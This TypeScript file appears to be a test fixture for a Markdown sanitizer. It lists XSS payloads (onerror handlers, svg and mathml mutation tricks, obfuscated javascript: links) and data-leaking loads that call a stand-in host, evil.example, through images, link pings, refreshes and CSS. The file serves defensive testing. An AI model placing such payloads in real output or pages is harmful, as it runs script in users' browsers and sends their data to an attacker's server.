/** Each would run a script if the text were shown as the HTML that Markdown makes of it. */
export const scripts: Record<string, string> = {
  "a script": "<script>window.hit = 1</script>",
  "a script in a paragraph": "text <script src='//evil.example/x.js'></script> text",
  "an image that fails": "<img src=x onerror='window.hit=1'>",
  "an svg with a handler": "<svg onload='window.hit=1'><circle/></svg>",
  "an svg with a script": "<svg><script>window.hit=1</script></svg>",
  "an svg that animates a link":
    "<svg><a><animate attributeName=href values='javascript:window.hit=1' /><text>x</text></a></svg>",
  mathml: "<math><mtext><style><img src=x onerror='window.hit=1'></style></mtext></math>",
  "markup that a second reading changes":
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
  "an attribute that closes its element": `<noscript><p title="</noscript><img src=x onerror='window.hit=1'>">`,
  "a template with a handler":
    "<template><img src=x onerror='window.hit=1'></template><img src=y onerror='window.hit=1'>",
  "a details with a handler": "<details open ontoggle='window.hit=1'>x</details>",
  "an input that takes the focus": "<input autofocus onfocus='window.hit=1'>",
  "a body with a handler": "text <body onload='window.hit=1'> <p onclick='window.hit=1'>x</p>",
  "an iframe of script": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "a form": "<form action='javascript:window.hit=1'><button>x</button></form>",
  "a base for all links": "<base href=javascript:/a/-window.hit=1///////><a href=../x>x</a>",
  "a style": "<style>*{background:url(//evil.example/s)}</style>",
  "a javascript link": "[x](javascript:window.hit=1)",
  "a javascript link in disguise": "[x](JaVaScRiPt:window.hit=1)",
  "a javascript link with entities":
    "[x](&#106;avascript&colon;window.hit=1) [y](&#x6A;avascript&#58;window.hit=1)",
  "a javascript link with control characters":
    "[x](<java\tscript:window.hit=1>) [y](<\u0001javascript:window.hit=1>)",
  "a javascript link under emphasis in a table": "| a |\n|---|\n| **[x](javascript:window.hit=1)** |",
  "a javascript autolink": "<javascript:window.hit=1>",
  "a javascript autolink with an entity": "<javascript:window.hit=1&#59;x>",
  "a vbscript link": "[x](vbscript:msgbox)",
  "a data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a blob link": "[x](blob:https://evil.example/1)",
  "a javascript reference": "[x][1]\n[1]: x\n\n[y]\n\n[y]: javascript:window.hit=1",
  "a javascript link in a footnote": "x[^1]\n\n[^1]: [y](javascript:window.hit=1)",
  "a comment that closes early": "<!--><img src=x onerror='window.hit=1'>-->",
  "a handler on any element": "x <b onmouseover='window.hit=1'>x</b>",
  "an element in an answer's list": "- a\n\n  <img src=x onerror='window.hit=1'>\n- b",
};

/** Each would ask another server for something, and so tell it what the answer's writer wants told. */
export const loads: Record<string, string> = {
  "an image": "![a](https://evil.example/a.png?secret=1)",
  "an image by reference": "![a][1]\n\n[1]: https://evil.example/b.png",
  "an image in a link": "[![a](https://evil.example/c.png)](https://a.example)",
  "an image in a footnote": "x[^1]\n\n[^1]: ![a](https://evil.example/c2.png)",
  "a data image": "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
  "an image element": "<img src='https://evil.example/d.png'>",
  "an image in several sizes": "<img srcset='https://evil.example/e.png 2x'>",
  "an image in svg":
    "<svg><image href='https://evil.example/e2.png' /><use href='https://evil.example/e3.svg#x' /></svg>",
  "a picture": "<picture><source srcset='https://evil.example/f.png'></picture>",
  "a video and a sound":
    "<video src='https://evil.example/g.mp4' poster='https://evil.example/h.png'></video><audio src='https://evil.example/i.mp3'></audio>",
  "an object, an embed and a frame":
    "<object data='https://evil.example/j'></object><embed src='https://evil.example/k'><iframe src='https://evil.example/l'></iframe>",
  "a stylesheet": "<link rel=stylesheet href='https://evil.example/m'>",
  "a prefetch":
    "text <link rel=prefetch href='https://evil.example/n'><link rel=dns-prefetch href=//secret.evil.example>",
  "a refresh": "<meta http-equiv=refresh content='0;https://evil.example/o'>",
  "a style's address": "<p style='background:url(https://evil.example/p)'>x</p>",
  "a style's import": "<style>@import 'https://evil.example/p2';</style>",
  "a background": "<table background='https://evil.example/q'><tr><td>x</table>",
  "a link that reports": "<a href='https://a.example' ping='https://evil.example/r'>x</a>",
  "an input as an image": "<input type=image src='https://evil.example/s'>",
  "a script's map": '<script type=importmap>{"imports":{"x":"https://evil.example/t"}}</script>',
};
